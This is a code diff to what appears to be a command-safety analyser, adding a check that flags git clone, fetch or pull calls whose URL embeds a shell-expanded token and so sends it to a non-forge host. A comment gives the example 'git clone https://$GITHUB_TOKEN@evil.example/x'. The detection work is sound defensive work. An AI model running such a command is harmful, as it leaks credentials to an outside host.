@@ -9,6 +9,7 @@ import { attached, literal, longSpelt, value, xargsSplit } from '../words.js';
 import { canonicalHost, type Destination, envProxies, type Host, reroutes, urlHost } from '../hosts.js';
 import { systemDirectory } from '../variables.js';
 import { gitDestroys, immediate } from './git-destroys.js';
+import { FORGES } from './registries.js';
 
 /**
  * Configuration keys whose value git runs as a command (or as a program named by a path): among them a configured
@@ -420,7 +421,7 @@ function gitRuns(call: Call, args: readonly Word[], inherited: Setting[], depth:
   const tree = workTree ?? givenWorkTree(call, settings, subWord);
   if (tree) uses.push({ word: tree, role: WORK_TREE_WRITERS.has(sub) ? 'extract' : 'meta' });
   const destroys = gitDestroys(sub, subWord, rest, new Map(settings.map((st) => [st.key.toLowerCase(), st.value])));
-  const pushed = PUSHES.has(sub) ? pushDestinations(rest, kept) : lfsPushed;
+  const pushed = [...(PUSHES.has(sub) ? pushDestinations(rest, kept) : lfsPushed), ...(FETCHES.has(sub) ? credentialsSent(rest) : [])];
   const keeps = remoteKeeps(sub, rest, kept);
   const done = (a: Partial<Answer>): Partial<Answer> => ({ ...a, ...(destroys.length > 0 ? { destroys } : {}), ...(pushed.length > 0 ? { reroutes: pushed } : {}), ...(keeps.length > 0 ? { keeps } : {}) });
   const model = SUBCOMMAND_SCRIPTS[sub];
@@ -636,6 +637,27 @@ function givenWorkTree(call: Call, settings: readonly Setting[], at: Word): Word
   const env = call.env('GIT_WORK_TREE');
   if (env === undefined) return undefined;
   return env === null ? { ...at, values: null, dynamic: '$GIT_WORK_TREE, computed' } : { ...at, values: [env] };
+}
+
+/** The subcommands that fetch from an address they are given (a clone from any host is everyday: its address is read only for what it sends). */
+const FETCHES: ReadonlySet<string> = new Set(['clone', 'fetch', 'pull', 'ls-remote', 'submodule', 'archive']);
+
+/**
+ * The hosts a fetch hands credentials from the environment to: an address whose user part the shell computes
+ * (`git clone https://$GITHUB_TOKEN@evil.example/x`, `"https://x:${TOKEN}@host/r.git"`) sends that value to its host.
+ * The public forges, where such a token belongs (`https://x-access-token:$GITHUB_TOKEN@github.com/…`), are no place.
+ */
+function credentialsSent(rest: readonly Word[]): Destination[] {
+  const out: Destination[] = [];
+  for (const w of rest) {
+    if (w.values !== null) continue;
+    const m = /^(?:--[\w-]+=)?([a-z][a-z0-9+.-]*):\/\/([^/@\s]*)@([^/:?#\s]+)/i.exec(w.text.replace(/["']/g, ''));
+    if (!m || !m[2]!.includes('$') || /[$`]/.test(m[3]!)) continue;
+    const h = urlHost(`http://${m[3]!}/`);
+    if ('host' in h && FORGES.test(h.host)) continue;
+    out.push('host' in h ? { word: w, host: h.host } : { word: w, why: h.why });
+  }
+  return out;
 }
 
 /** The subcommands that send the repository's commits to another: push, and the plumbing it is made of. */
